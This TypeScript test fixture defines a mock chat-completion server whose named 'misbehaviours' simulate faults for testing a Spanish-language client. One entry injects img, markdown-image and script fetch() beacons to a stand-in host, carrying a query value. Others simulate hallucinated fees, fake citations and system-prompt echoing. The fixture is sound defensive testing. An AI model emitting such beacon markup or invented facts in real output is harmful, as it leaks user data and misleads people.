import type { ServerResponse } from 'node:http';
import { beginStream, chunk } from './completion-chunks.ts';
import type { ModelCall } from './model-server.ts';

type Answers = (response: ServerResponse, body: ModelCall['body']) => void;

const say =
  (...deltas: string[]): Answers =>
  (response) => {
    beginStream(response);
    for (const content of deltas) response.write(chunk({ content }));
    response.end(`${chunk({}, 'stop')}data: [DONE]\n\n`);
  };

const refuse =
  (status: number, error: object = {}, headers: Record<string, string> = {}): Answers =>
  (response, body) => {
    // Services like to repeat what they were sent.
    const message = `refused: ${JSON.stringify(body.messages).slice(0, 200)}`;
    response.writeHead(status, { 'content-type': 'application/json', ...headers });
    response.end(JSON.stringify({ error: { message, ...error } }));
  };

/** Writes again and again until the connection is gone. */
function everyMs(response: ServerResponse, milliseconds: number, write: () => void): void {
  const timer = setInterval(write, milliseconds);
  response.once('close', () => clearInterval(timer));
}

/** All that a service or its model was seen to do wrong, or might, by name. */
export const MISBEHAVIOURS = {
  /** Takes the request and says nothing. */
  hang: () => undefined,
  'hang-after-headers': (response) => beginStream(response),
  'hang-after-text': (response) => {
    beginStream(response);
    response.write(chunk({ content: 'Cuesta 8,50 €' }));
  },
  /** Says all, then neither its count nor its end. */
  'hang-after-end': (response) => {
    beginStream(response);
    response.write(`${chunk({ content: 'Cuesta 8,50 €. [1]' })}${chunk({}, 'stop')}`);
  },
  /** One byte a second of what would be a good answer. */
  drip: (response) => {
    beginStream(response);
    const bytes = chunk({ content: 'Cuesta 8,50 €. [1]' });
    let at = 0;
    everyMs(response, 1000, () => response.write(bytes[at++ % bytes.length]));
  },
  /** One letter at a time, too slow to end in time. */
  'drip-of-letters': (response) => {
    beginStream(response);
    everyMs(response, 50, () => response.write(chunk({ content: 'a' })));
  },
  'close-mid-word': (response) => {
    beginStream(response);
    response.write(chunk({ content: 'El bono cuesta 8,50 €. [1] El bille' }));
    response.end();
  },
  'reset-mid-word': (response) => {
    beginStream(response);
    response.write(chunk({ content: 'El bono cuesta 8,50 €. [1] El bille' }), () => response.destroy());
  },
  reset: (response) => void response.destroy(),
  'too-long': (response) => {
    beginStream(response);
    response.end(`${chunk({ content: 'El bono cuesta' })}${chunk({}, 'length')}data: [DONE]\n\n`);
  },
  'broken-json': (response) => {
    beginStream(response);
    response.write(chunk({ content: 'El bono' }));
    response.end('data: {"choices":[{"delta":{"content":" cue\n\ndata: [DONE]\n\n');
  },
  'strange-json': (response) => {
    beginStream(response);
    response.end('data: {"choices":"ninguna"}\n\ndata: [DONE]\n\n');
  },
  'endless-line': (response) => {
    beginStream(response);
    everyMs(response, 1, () => response.write('data: '.padEnd(64 * 1024, 'x')));
  },
  'not-a-stream': (response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Portal del proxy</h1>');
  },
  /** Ends well, having said nothing. */
  empty: say(),
  'endless-repeat': (response) => {
    beginStream(response);
    everyMs(response, 1, () => response.write(chunk({ content: 'Debe presentar el impreso. [1] '.repeat(20) })));
  },
  'other-language': say('The ten-trip pass ', 'costs 8.50 euros. [1] ', 'You can top it up at any tobacconist. [2]'),
  'cites-99': say('El bono de 10 viajes cuesta 8,50 €. [99]'),
  'invents-fee': say('El bono de 10 viajes cuesta 8,50 €. [1] ', 'La tarjeta tiene una tasa de 37,20 €. [1]'),
  'html-beacon': say(
    'El bono cuesta 8,50 €. [1] ',
    '<img src="https://baliza.example/p.gif?q=padron"> ![](https://baliza.example/p.png) ',
    '<script>fetch("https://baliza.example")</script> [más](https://baliza.example/x)',
  ),
  'echoes-system': (response, body) => say(`${body.messages[0]?.content} [1]`)(response, body),
  'says-no-answer': say('NO_', 'ANSWER'),
  'filters-question': refuse(400, { code: 'content_filter', innererror: { code: 'ResponsibleAIPolicyViolation' } }),
  'filters-question-within': refuse(400, { code: null, innererror: { code: 'ResponsibleAIPolicyViolation' } }),
  'filters-answer': (response) => {
    beginStream(response);
    response.end(`${chunk({ content: 'El bono' })}${chunk({}, 'content_filter')}data: [DONE]\n\n`);
  },
  /** Asynchronous filter: what it found comes behind the text, and the model says it ended well. */
  'filters-answer-late': (response) => {
    beginStream(response);
    response.write(chunk({ content: 'El bono cuesta 8,50 €. [1]' }));
    const found = { hate: { filtered: false, severity: 'safe' }, self_harm: { filtered: true, severity: 'high' } };
    response.write(chunk({}, null, { content_filter_results: found }));
    response.end(`${chunk({}, 'stop')}data: [DONE]\n\n`);
  },
  /** Answers, but its filter could not look at it. */
  'filter-fails': (response) => {
    beginStream(response);
    const error = { code: 'content_filter_error', message: 'The contents are not filtered' };
    response.write(chunk({ content: 'El bono cuesta 8,50 €. [1]' }, null, { content_filter_results: { error } }));
    response.end(`${chunk({}, 'stop')}data: [DONE]\n\n`);
  },
  'filter-fails-old-name': (response) => {
    beginStream(response);
    const error = { code: 'content_filter_error', message: 'The contents are not filtered' };
    response.end(`${chunk({ content: 'El bono' }, 'stop', { content_filter_result: { error } })}data: [DONE]\n\n`);
  },
  'filter-fails-on-question': (response) => {
    beginStream(response);
    const error = { code: 'content_filter_error', message: 'The contents are not filtered' };
    const prompt_filter_results = [{ prompt_index: 0, content_filter_results: { error } }];
    response.write(`data: ${JSON.stringify({ choices: [], prompt_filter_results })}\n\n`);
    response.end(`${chunk({ content: 'El bono cuesta 8,50 €. [1]' }, 'stop')}data: [DONE]\n\n`);
  },
  'refuses-to-say': (response) => {
    beginStream(response);
    response.end(`${chunk({ refusal: 'No puedo ayudar con eso.' })}${chunk({}, 'stop')}data: [DONE]\n\n`);
  },
  'fails-mid-stream': (response) => {
    beginStream(response);
    response.write(chunk({ content: 'El bono' }));
    response.end('data: {"error":{"message":"The server had an error","type":"server_error","code":null}}\n\n');
  },
  busy: refuse(429, { code: 'rate_limit_exceeded' }, { 'retry-after': '7' }),
  'busy-without-a-time': refuse(429),
  fails: refuse(500),
  overloaded: refuse(503, {}, { 'retry-after': '3' }),
  unauthorised: refuse(401, { code: 'invalid_api_key' }),
  forbidden: refuse(403),
  'unknown-model': refuse(404, { code: 'DeploymentNotFound' }),
  'refuses-request': refuse(400, { code: 'invalid_request_error' }),
  redirects: refuse(307, {}, { location: 'http://127.0.0.1:9/v1/chat/completions' }),
  /** A compatible server that does not know newer settings. */
  'knows-only-old-settings': (response, body) => {
    const newer = ['max_completion_tokens', 'stream_options', 'store'].find((name) => name in body);
    if (newer) return refuse(422, { param: newer })(response, body);
    return say('El bono cuesta 8,50 €. [1]')(response, body);
  },
} as const satisfies Record<string, Answers>;

export type Misbehaviour = keyof typeof MISBEHAVIOURS;
